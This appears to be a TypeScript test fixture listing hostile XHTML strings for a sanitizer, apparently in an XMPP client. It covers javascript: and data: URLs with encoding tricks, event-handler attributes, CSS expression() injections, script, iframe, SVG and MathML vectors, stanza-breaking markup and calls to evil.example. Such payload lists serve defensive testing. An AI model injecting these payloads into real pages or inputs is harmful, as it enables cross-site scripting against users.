/**
 * Hostile html, after what the collections of cross-site scripting have in common. Most of it is well-formed, since what
 * is not is refused before anything else: the point is what a strict parser lets pass.
 */

const script = "alert(1)";
const svg = "http://www.w3.org/2000/svg";
const xlink = "http://www.w3.org/1999/xlink";
const math = "http://www.w3.org/1998/Math/MathML";

const schemes = [
  "javascript:alert(1)",
  "JavaScript:alert(1)",
  " javascript:alert(1)",
  "&#1;javascript:alert(1)".replace("&#1;", "&#9;"),
  "java&#9;script:alert(1)",
  "java&#10;script:alert(1)",
  "java&#13;script:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;&#x61;vascript:alert(1)",
  "javascript&#58;alert(1)",
  "javascript://example.com/%0aalert(1)",
  "vbscript:msgbox(1)",
  "livescript:x",
  "mocha:x",
  "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,&lt;svg onload='x'/&gt;".replaceAll("'", "&apos;"),
  "blob:https://example.com/1",
  "file:///etc/passwd",
  "view-source:javascript:alert(1)",
  "feed:javascript:alert(1)",
  "jar:https://example.com!/x",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "/relative",
  "ht&#9;tps://evil.example/",
];

const handlers = [
  "onabort onafterprint onanimationend onauxclick onbeforecopy onbeforetoggle onblur oncanplay onchange onclick oncopy",
  "oncut ondblclick ondrag onerror onfocus onhashchange oninput onkeydown onload onmessage onmouseover onpaste",
  "onpointerenter onresize onscroll ontoggle ontransitionend onwheel ONCLICK",
]
  .join(" ")
  .split(" ");

const styles = [
  "background-image: url(javascript:alert(1))",
  "background: url(https://evil.example/x)",
  "width: expression(alert(1))",
  "color: expression(alert(1))",
  "color: red; behavior: url(#default#time2)",
  "-moz-binding: url(https://evil.example/x.xml#a)",
  "position: fixed; top: 0; left: 0; width: 100%; height: 100%",
  "color: \\72 ed; b\\61 ckground: url(x)",
  "color/**/: red",
  "font-family: url(x)",
  "@import 'https://evil.example/x.css'",
  "list-style-image: url(x)",
  "color: red}body{background:url(x)}",
  "font-size: 1px; content: '&lt;script&gt;'",
];

const elements = [
  `<script>${script}</script>`,
  `<SCRIPT>${script}</SCRIPT>`,
  "<script src='https://evil.example/x.js'/>",
  "<p><script>x</script></p>",
  "<body onload='x'><p onclick='y'>a</p></body>",
  "<iframe src='javascript:alert(1)'/>",
  "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'/>",
  "<object data='javascript:alert(1)'/>",
  "<embed src='https://evil.example/x.swf'/>",
  "<applet code='x'/>",
  "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'/>",
  "<link rel='stylesheet' href='https://evil.example/x.css'/>",
  "<base href='javascript:alert(1)//'/>",
  "<form action='javascript:alert(1)'><input type='submit'/></form>",
  "<button formaction='javascript:alert(1)'>a</button>",
  "<input type='image' src='x' onerror='alert(1)'/>",
  "<textarea autofocus='' onfocus='x'/>",
  "<select><option onclick='x'>a</option></select>",
  "<video><source onerror='alert(1)'/></video>",
  "<audio src='x' onerror='alert(1)'/>",
  "<details open='' ontoggle='x'><summary>a</summary></details>",
  "<marquee onstart='x'>a</marquee>",
  "<isindex action='javascript:alert(1)'/>",
  "<frameset><frame src='javascript:alert(1)'/></frameset>",
  "<table background='javascript:alert(1)'><tr><td>a</td></tr></table>",
  "<bgsound src='javascript:alert(1)'/>",
  "<layer src='https://evil.example/x'/>",
  "<xml src='x'/>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
  "<noscript><p title='&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;'>a</p></noscript>",
  "<template><script>x</script></template>",
  `<svg xmlns='${svg}' onload='alert(1)'/>`,
  `<svg xmlns='${svg}'><script>alert(1)</script></svg>`,
  `<svg xmlns='${svg}' xmlns:x='${xlink}'><a x:href='javascript:alert(1)'><text>a</text></a></svg>`,
  `<svg xmlns='${svg}'><foreignObject><p xmlns='http://www.w3.org/1999/xhtml' onclick='x'>a</p></foreignObject></svg>`,
  `<svg xmlns='${svg}'><animate onbegin='alert(1)' attributeName='x'/></svg>`,
  `<s:svg xmlns:s='${svg}'><s:script>alert(1)</s:script></s:svg>`,
  `<math xmlns='${math}'><maction actiontype='statusline' xlink:href='javascript:x' xmlns:xlink='${xlink}'>a</maction></math>`,
  "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
  `<p xmlns:x='${xlink}' x:href='javascript:alert(1)'>a</p>`,
  "<a xmlns:h='http://www.w3.org/1999/xhtml' h:href='javascript:alert(1)' href='https://example.com' target='_blank' ping='https://evil.example'>a</a>",
  "<img src='x' onerror='alert(1)'/>",
  "<img src='https://example.com/a.png' srcset='javascript:x' onload='alert(1)'/>",
  "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'/>",
  "<message xmlns='jabber:client' to='eve@example.com'><body>a</body></message>",
  "<stream:error xmlns:stream='http://etherx.jabber.org/streams'/>",
  "<p xml:base='javascript:alert(1)'><a href='x'>a</a></p>",
  "<p id='x' class='y' name='z' style=''>a</p>",
  "<__proto__ onclick='x'/>",
];

const malformed = [
  "<script>alert(1)",
  "<img src=x onerror=alert(1)>",
  "</body></html></message><message to='eve@example.com'>",
  "<![CDATA[<script>alert(1)</script>",
  "<!DOCTYPE p [<!ENTITY x '<script>alert(1)</script>'>]><p>&x;</p>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
];

export const xssTexts: readonly string[] = [
  ...elements,
  ...schemes.map((url) => `<a href='${url}'>a</a>`),
  ...schemes.map((url) => `<img src='${url}' alt='a'/>`),
  ...handlers.map((handler) => `<p ${handler}='${script}'>a</p>`),
  ...styles.map((style) => `<p style="${style}">a</p>`),
  ...malformed,
];
